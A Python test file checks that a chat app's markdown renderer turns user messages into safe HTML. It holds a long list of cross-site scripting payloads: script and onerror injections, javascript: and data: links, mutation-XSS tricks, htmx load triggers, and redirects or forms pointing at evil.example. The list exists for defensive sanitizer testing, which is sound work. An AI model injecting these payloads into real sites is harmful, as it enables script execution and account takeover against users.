"""Message text to HTML: shortcuts work, and nothing that somebody types becomes anything but text and a few tags."""

from __future__ import annotations

import re
from time import thread_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html

from console.desk.markdown import ATTRIBUTES, TABLE_TAGS, TAGS, to_html

VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<p style='background:url(//evil.example)'>x</p><link rel=stylesheet href=//evil.example>",
    "<div hx-get=/tickets hx-trigger=load hx-swap=outerHTML>x</div>",
    "<div data-hx-post=/sign-out data-hx-trigger=load>x</div>",
    "<b hx-on:click=alert(1) hx-on--load=alert(1) ws-connect=/x sse-connect=/x>x</b>",
    "<div id=thread data-channel=ticket:1 data-seq=99 class='mention'>x</div>",
    "<template><script>alert(1)</script></template>",
    "<at-time datetime=x></at-time><reply-composer><field-picker data-action=/x>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<img src=x onerror=alert(1)//<",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a\thref\n=\rjavascript&colon;alert(1)>x",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "[x](//evil.example 'a\" onmouseover=\"alert(1)')",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](https://evil.example/track.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](x)',
    'https://evil.example/"onmouseover="alert(1)',
    "http://x.example/<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    '```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "1. <b onclick=alert(1)>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "@Ben<img src=x onerror=alert(1)>",
    "# Heading\n\nOther\n===",
    "\u202e<script>\u200b",
)
SCHEMES = re.compile(r"(?:https?:|mailto:|/|#|[^:]*$)", re.IGNORECASE)


LINK = 'target="_blank" rel="noopener noreferrer nofollow"'


def assert_harmless(source: str, names: tuple[str, ...] = ()) -> None:
    rendered = str(to_html(source, names))
    for each in html.fragment_fromstring(rendered, create_parent="body").iterdescendants():
        assert isinstance(each.tag, str), f"a comment in {rendered}"
        assert each.tag in TAGS | TABLE_TAGS, f"<{each.tag}> in {rendered}"
        allowed = ATTRIBUTES.get(each.tag, set()) | ({"rel", "target"} if each.tag == "a" else set())
        assert set(each.attrib) <= allowed, f"{dict(each.attrib)} in {rendered}"
        if each.tag == "span":
            assert each.get("class") == "mention"
        if "href" in each.attrib:
            href = "".join(char for char in str(each.get("href")) if char > " ")
            assert SCHEMES.match(href) and "noopener" in str(each.get("rel")), f"{href} in {rendered}"


@pytest.mark.parametrize("wrap", ("{}", "> {}", "- {}", "**{}**", "[{}](https://x.example)", "@Ben {}", "{}\n\n{}"))
@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_typed_can_do_anything(vector: str, wrap: str) -> None:
    assert_harmless(wrap.replace("{}", vector), ("Ben",))


@pytest.mark.parametrize("name", ('Ben"><script>alert(1)</script>', "<b>Ben", "Ben&lt;", "B(e|n)*+?"))
def test_a_persons_name_is_only_text_where_it_is_marked(name: str) -> None:
    assert_harmless(f"@{name} look", (name,))
    marked = html.fragment_fromstring(str(to_html(f"@{name} look", (name,)))).text_content()
    assert marked == f"@{name} look".replace("&lt;", "<")


@settings(max_examples=150)
@given(st.text(st.sampled_from("<>\"'&;:/\\=`*_~[]()!#|-@ \n\tasrchxonipt0"), max_size=60))
def test_no_mixture_of_signs_can_do_anything(source: str) -> None:
    assert_harmless(source, ("sa", "a"))


@pytest.mark.parametrize(
    ("source", "expected"),
    (
        ("**b** *i* ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>'),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>"),
        ("```\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>"),
        ("# no heading", "<p># no heading</p>"),
        ("<b>no bold</b>", "<p>&lt;b&gt;no bold&lt;/b&gt;</p>"),
        ("<div>\nno block\n</div>", "<p>&lt;div&gt;<br>\nno block<br>\n&lt;/div&gt;</p>"),
        ("![no picture](https://x.example/y.png)", f'<p>!<a href="https://x.example/y.png" {LINK}>no picture</a></p>'),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>"),
    ),
)
def test_the_shortcuts_work(source: str, expected: str) -> None:
    assert str(to_html(source)).strip() == expected


def test_addresses_become_links_to_another_tab() -> None:
    rendered = str(to_html("see https://x.example/a?b=1&c=2, www.y.com and a@z.com"))
    for address in ("https://x.example/a?b=1&amp;c=2", "http://www.y.com", "mailto:a@z.com"):
        assert f'<a href="{address}" {LINK}>' in rendered


@pytest.mark.parametrize(
    "source", ("*" * 64_000, "[" * 64_000, "<" * 64_000, "`" * 64_000, "> " * 32_000, "@Ben " * 12_800, "a@" * 32_000)
)
def test_the_longest_message_is_rendered_in_reasonable_time(source: str) -> None:
    begin = thread_time()
    to_html.__wrapped__(source, ("Ben",))
    assert thread_time() - begin < 10  # seconds of computing, not of waiting for other programs
